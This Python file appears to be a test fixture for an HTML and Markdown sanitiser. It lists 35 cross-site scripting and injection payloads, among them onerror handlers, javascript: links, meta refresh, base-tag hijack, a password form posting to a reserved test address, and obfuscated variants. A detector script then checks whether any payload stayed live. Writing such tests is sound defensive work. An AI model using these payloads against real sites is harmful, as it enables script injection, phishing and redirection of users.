"""Markup that acts where a page lets it: each leaves a trace of its number, ``evil07``, when it does."""

from __future__ import annotations

import re
import unicodedata

STRANGER = "http://192.0.2.1"
"""An address that nothing may ask; it is reserved for documentation and answers nowhere."""

# No full stops, which would part a payload into two sentences of a report.
PAYLOADS = {
    "脚本": "<script>window.evil01=1</script>",
    "外部脚本": f"<script src={STRANGER}/evil02.js></script>",
    "图片出错时的脚本": "<img src=x onerror=window.evil03=1>",
    "外部图片": f"<img src={STRANGER}/evil04.png>",
    "svg载入时的脚本": "<svg onload=window.evil05=1></svg>",
    "外部框架": f"<iframe src={STRANGER}/evil06></iframe>",
    "框架里的脚本": '<iframe srcdoc="<script>parent.evil07=1</script>"></iframe>',
    "要密码的表单": f"<form action={STRANGER}/evil08><input type=password><button>登录</button></form>",
    "样式表里的地址": f"<style>body{{background:url({STRANGER}/evil09)}}</style>",
    "引入的样式表": f"<style>@import '{STRANGER}/evil10.css'</style>",
    "样式里的地址": f'<div style="background:url({STRANGER}/evil11)">字</div>',
    "自动跳转": f'<meta http-equiv=refresh content="0,url={STRANGER}/evil12">',
    "换掉根地址": f"<base id=evil13 href={STRANGER}/evil13/>",
    "外部样式表": f"<link rel=stylesheet href={STRANGER}/evil14.css>",
    "脚本链接": '<a id=evil15 href="javascript:window.evil15=1">看</a>',
    "Markdown脚本链接": "[看](javascript:window.evil16=1)",
    "Markdown图片": f"![图]({STRANGER}/evil17.png)",
    "Markdown链接": f'[看]({STRANGER}/evil18 "题")<{STRANGER}/evil18>',
    "两次转义的标签": (
        "&amp;lt;img src=x onerror=window.evil19=1&amp;gt;&lt;img src=x onerror=window.evil19=1&gt;"
    ),
    "mathml里的标签": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;' src=x onerror=window.evil20=1>"
    ),
    "object": f"<object id=evil21 data={STRANGER}/evil21></object>",
    "embed": f"<embed id=evil22 src={STRANGER}/evil22>",
    "影子模板": f"<div><template shadowrootmode=open><img src={STRANGER}/evil23.png></template></div>",
    "data链接": '<a id=evil24 href="data:text/html,<script>parent.evil24=1</script>">看</a>',
    "零宽字符隔开的标签": f"<\u200bimg src={STRANGER}/evil25.png onerror\u200b=window.evil25=1>",
    "全角标签": f"＜img src={STRANGER}/evil26.png onerror=window.evil26=1＞",
    "展开时的脚本": "<details open ontoggle=window.evil27=1><summary>看</summary></details>",
    "视频封面": f"<video poster={STRANGER}/evil28.png><source src=x onerror=window.evil28=1></video>",
    "svg里的图片": f"<svg><image href={STRANGER}/evil29.png /></svg>",
    "逃出属性": '" autofocus onfocus="window.evil30=1" x="\' onfocus=\'window.evil30=1\' tabindex=1',
    "公式里的链接": r"$$\href{javascript:window.evil31=1}{x}$$",
    "注释之后的标签": f"<!--><img src={STRANGER}/evil32.png>-->",
    "先关掉外层": f"</blockquote></details></textarea></title><img src={STRANGER}/evil33.png>",
    "反向书写的标签": f"\u202e<img src={STRANGER}/evil34.png onerror=window.evil34=1>\u202c",
    "自定义元素": f"<x-evil35 is=evil35><img src={STRANGER}/evil35.png></x-evil35>",
}

# What of a payload is live in the document, in its shadow trees too: an element that holds it as an
# attribute that acts, a variable that its script set, a page that went elsewhere.
LIVE = """() => {
  const found = [];
  const walk = root => { for (const element of root.querySelectorAll('*')) {
    for (const {name, value} of element.attributes)
      if (/evil\\d\\d/.test(value) && !/^(title|aria-label|value|placeholder|alt|data-(?!shadow))/.test(name))
        found.push(value.match(/evil\\d\\d/)[0]);
    if (element.shadowRoot) walk(element.shadowRoot);
    if (element.localName === 'style' && /evil\\d\\d/.test(element.textContent))
      found.push(element.textContent.match(/evil\\d\\d/)[0]);
    if (/evil\\d\\d/.test(element.localName)) found.push(element.localName.match(/evil\\d\\d/)[0]);
  } };
  walk(document);
  found.push(...Object.keys(window).filter(name => /^evil\\d\\d$/.test(name)));
  for (const place of [location.href, document.baseURI])
    if (/evil\\d\\d/.test(place)) found.push(place.match(/evil\\d\\d/)[0]);
  return found;
}"""


def number(payload: str) -> str:
    """The trace that a payload leaves: ``evil07``."""
    found = re.search(r"evil\d\d", payload)
    assert found
    return found.group()


def seen_as(text: str) -> str:
    """A text as it is looked for on the page: without what hides, and without white space."""
    shown = "".join(char for char in text if unicodedata.category(char) != "Cf")
    return re.sub(r"\s", "", shown)
